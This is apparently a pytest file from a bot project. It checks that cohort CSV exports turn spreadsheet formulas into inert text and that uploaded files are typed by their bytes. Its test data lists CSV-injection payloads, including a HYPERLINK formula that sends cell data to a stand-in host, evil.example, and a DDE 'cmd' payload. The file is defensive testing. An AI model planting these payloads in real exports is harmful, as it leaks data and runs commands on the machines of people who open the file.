"""Every spreadsheet export makes formulas inert, with one guard (bot.documents.cells)."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import UTC, datetime

import pytest

from bot.db.repositories import CohortRecord
from bot.documents.cells import safe_cell
from bot.documents.filetypes import ALLOWED, sniff
from bot.documents.reports import cohort_csv
from bot.i18n import I18n
from bot.services.cohorts import CohortProgress, MemberProgress

T0 = datetime(2026, 11, 30, 12, 0, tzinfo=UTC)
EVIL = [
    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("name", EVIL)
def test_a_members_name_never_runs_as_a_formula_in_the_cohort_csv(name: str) -> None:
    cohort = CohortRecord(1, 2, "=cmd", "en", None, T0, 1)
    member = MemberProgress(name, T0, T0, ())
    data = cohort_csv(I18n(default="en").translator("en"), CohortProgress(cohort, (), (member,)))
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[1][0] == "'" + name, "shown as text, not run"


def test_the_guard_leaves_plain_values_alone() -> None:
    assert safe_cell("Awa Camara") == "Awa Camara"
    assert safe_cell(3) == 3, "a number stays a number"
    assert safe_cell("2026-11-30") == "2026-11-30"


def _zip(parts: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return buffer.getvalue()


@pytest.mark.parametrize(
    ("data", "kind"),
    [
        (b"OggS\x00\x02" + bytes(30), "ogg"),
        (b"ID3\x04" + bytes(30), "mp3"),
        (b"\x00\x00\x00\x20ftypM4A " + bytes(30), "m4a"),
        (b"\xff\xd8\xff\xe0" + bytes(30), "jpg"),
        (b"\x89PNG\r\n\x1a\n" + bytes(30), "png"),
        (b"%PDF-1.7\n" + bytes(30), "pdf"),
        ("Les camions passent la nuit. शिकायत".encode(), "txt"),
        (_zip({"word/document.xml": b"<w/>"}), "docx"),
        (_zip({"xl/workbook.xml": b"<x/>"}), "xlsx"),
        (_zip({"payload.exe": b"MZ"}), "bin"),
        (b"MZ\x90\x00" + bytes(60), "bin"),
        (b"\x7fELF" + bytes(60), "bin"),
        (b"", "bin"),
    ],
)
def test_a_files_type_comes_from_its_bytes(data: bytes, kind: str) -> None:
    assert sniff(data) == kind
    assert kind in ALLOWED or kind == "bin"
